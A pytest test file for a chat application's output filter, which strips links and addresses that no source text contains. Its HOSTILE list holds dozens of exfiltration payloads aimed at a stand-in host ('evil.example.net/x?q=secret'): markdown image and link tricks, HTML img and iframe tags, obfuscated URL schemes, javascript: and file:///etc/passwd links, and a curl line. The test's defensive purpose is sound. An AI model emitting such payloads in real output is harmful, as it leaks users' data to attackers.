"""What a text may lead to: nothing that no source has, in whatever form it is written and however it is cut."""

import pytest

from parley.chat.output_filter import AllowedAddresses, OutputFilter, clean

SOURCE = (
    "See https://docs.example.com/guide?a=1#x and https://en.wikipedia.org/wiki/A_(b), or www.harbour.example. "
    "Write to help@example.org."
)
ALLOWED = AllowedAddresses([SOURCE])
EVIL = "evil.example.net/x?q=secret"


def streamed(text: str, size: int) -> str:
    opened = OutputFilter(ALLOWED)
    return "".join(opened.feed(text[i : i + size]) for i in range(0, len(text), size)) + opened.finish()


HOSTILE = [
    f"![x](https://{EVIL})",
    f"![x\ny](https://{EVIL} 'title')",
    f"[x](https://{EVIL})",
    f"[x](<https://{EVIL}>)",
    f"[x](\nhttps://{EVIL}\n)",
    f"[a [b](https://{EVIL})](https://{EVIL})",
    f"[![x](https://{EVIL})](https://{EVIL})",
    f"[x][r]\n\n[r]: https://{EVIL}",
    f"![x][r]\n\n[r]:\n   <https://{EVIL}> 'title'",
    f"> [r]: https://{EVIL}\n\n[r]",
    f"[^1]\n\n[^1]: ![x](https://{EVIL})",
    f"<https://{EVIL}>",
    f"https://{EVIL}",
    f"HtTpS://{EVIL}",
    f"www.{EVIL}",
    EVIL,
    f"//{EVIL}",
    f"[x](//{EVIL})",
    f"<img src=https://{EVIL}>",
    f"<img\nsrc='//{EVIL}' onerror=alert(1)>",
    f"<a href=\"https://{EVIL}\">x</a>",
    f"<svg><image href=https://{EVIL} /></svg>",
    f"<iframe src=https://{EVIL}",
    f"`https://{EVIL}`",
    f"```\ncurl https://{EVIL}\n```",
    f"https&#58;//{EVIL}",
    f"https&amp;#58;//{EVIL}",
    f"https\\://{EVIL}",
    f"ht\u200btps://{EVIL}",
    f"ｈｔｔｐｓ：／／{EVIL}",
    f"https:\\\\{EVIL}",
    f"| a | https://{EVIL} |\n|---|---|\n| ![b](https://{EVIL}) | c |",
    "[x](javascript:alert(document.cookie))",
    "[x](jAvAsCrIpT&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](/api/v1/sign-out)",
    "[x](/api/v1/search?q=secret)",
    "/api/v1/turns/turn_1/stop?q=secret",
    "[x](../../api/v1/sign-out)",
    "[x](?q=secret)",
    "[x](#secret)",
    "[x](http://127.0.0.1:7272/api/v1/conversations)",
    "http://[::1]:7272/x",
    "127.0.0.1:7272/x",
    "[x](https://docs.example.com/guide?a=1#x&q=secret)",
    "https://docs.example.com/guide?a=1&q=secret#x",
    "https://docs.example.com.evil.example.net/guide?a=1#x",
    "https://user@docs.example.com/guide?a=1#x",
    "write to secret@evil.example.net",
    "[x](mailto:secret@evil.example.net)",
]  # fmt: skip
LEADS = (
    "javascript", "data:", "vbscript", "file:", "/api/", "127.0.0.1", "[::1]", "](", "<img", "![", "user@", "&q=",
    "src=http", "colon", "q=secret", "evil.example",
)  # fmt: skip


class TestWhatLeadsSomewhere:
    @pytest.mark.parametrize("text", HOSTILE)
    @pytest.mark.parametrize("size", [1, 4, 10_000])
    def test_is_taken_out_however_the_stream_is_cut(self, text: str, size: int) -> None:
        told = streamed(f"Before it. {text} and\n\nafter it.", size)
        # A word that was told before it became an address may stand; what makes it one may not.
        assert not any(lead in told.lower() for lead in LEADS), told
        assert told.startswith("Before it.")
        assert told.endswith("after it.")

    @pytest.mark.parametrize("text", HOSTILE)
    def test_stays_out_when_cleaned_again(self, text: str) -> None:
        once = clean(text, ALLOWED)
        assert clean(once, ALLOWED) == once


class TestWhatSourcesHold:
    @pytest.mark.parametrize(
        ("text", "told"),
        [
            ("See https://docs.example.com/guide?a=1#x.", None),
            ("[guide](https://docs.example.com/guide?a=1#x)", None),
            ("[guide](HTTPS://DOCS.example.com/guide?a=1#x)", "[guide](https://docs.example.com/guide?a=1#x)"),
            ("<https://docs.example.com/guide?a=1#x>", None),
            ("[g]\n\n[g]: https://docs.example.com/guide?a=1#x", None),
            ("[w](https://en.wikipedia.org/wiki/A_(b))", None),
            ("(https://en.wikipedia.org/wiki/A_(b))", None),
            ("www.harbour.example, or help@example.org.", None),
            ("![chart](https://docs.example.com/guide?a=1#x)", "[chart](https://docs.example.com/guide?a=1#x)"),
        ],
    )
    @pytest.mark.parametrize("size", [1, 5, 10_000])
    def test_stays(self, text: str, told: str | None, size: int) -> None:
        assert streamed(text, size) == (told or text)


class TestPlainText:
    @pytest.mark.parametrize(
        "text",
        [
            "At 9:40 it costs 3.5 euros, e.g. now, i.e. and/or later. See README.md, node.js or a/b/c.py!",
            "Use `vec! [1, 2]` or `a[1](b)`, if a < b and List<String> c; // a comment",
            "The [Edit] menu: [Save] and [Save as].",
            "| what | cost |\n|---|---|\n| ticket | 12 euros |",
            "C:\\Users\\me and /usr/bin/env and ~/x",
            "It ended.In the end.",
        ],
    )
    @pytest.mark.parametrize("size", [1, 3, 10_000])
    def test_is_left_alone(self, text: str, size: int) -> None:
        assert streamed(text, size).replace("] (", "](") == text

    def test_is_told_word_by_word(self) -> None:
        opened = OutputFilter(ALLOWED)
        assert [opened.feed(word) for word in ("The ", "ferry", " leaves", " at")] == [
            "The ",
            "ferry",
            " leaves",
            " at",
        ]

    def test_is_held_no_longer_than_a_link_is_open(self) -> None:
        opened = OutputFilter(ALLOWED)
        assert opened.feed("See [the guide](https://docs.ex") == "See "
        assert opened.feed("ample.com/guide?a=1#x) now") == "[the guide](https://docs.example.com/guide?a=1#x) now"
